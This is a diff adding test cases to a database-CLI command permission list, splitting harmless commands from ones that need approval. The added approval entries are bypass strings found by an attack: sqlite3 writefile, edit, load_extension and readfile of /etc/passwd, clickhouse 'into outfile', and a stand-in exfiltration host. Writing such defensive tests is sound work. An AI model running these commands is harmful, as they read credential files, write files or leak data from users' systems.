@@ -40,6 +40,8 @@ HARMLESS: tuple[tuple[str, str], ...] = (
     ("cqlsh", "cqlsh -e 'describe keyspaces'"),
     ("sqlcmd", "sqlcmd -L"),
     ("pgcli", "pgcli --list"),
+    ("sqlite3 app.db", "sqlite3 app.db 'select count(*), max((a+b)*2) from t where x in (1,2)'"),
+    ("pg_isready", "pg_isready -h db -p 5432"),
 )
 ASKS: tuple[tuple[str, str], ...] = (
     ("psql -l", "psql -l -o '|touch x'"),
@@ -161,4 +163,13 @@ ASKS: tuple[tuple[str, str], ...] = (
     ("pgcli", "pgcli -h evil"),
     ("usql", "usql -c '\\! touch x'"),
     ("usql", "usql -f evil.sql"),
+    # Found by an attack.
+    ("sqlite3", "sqlite3 app.db 'select writefile((\"pwned\"),1)'"),
+    ("sqlite3", "sqlite3 app.db \"select edit(('a'),'touch pwned #')\""),
+    ("sqlite3 app.db", 'sqlite3 app.db \'select "writefile"(("pwned"),1)\''),
+    ("sqlite3 app.db", "sqlite3 app.db 'select load_extension((1))'"),
+    ("sqlite3 app.db", "sqlite3 app.db 'select readfile((\"/etc/passwd\"))'"),
+    ("clickhouse-client", "clickhouse-client -q \"show tables into outfile 'pwned'\""),
+    ("pg_isready", "pg_isready -h secret.evil.example"),
+    ("influx ping", "influx ping --http-debug"),
 )
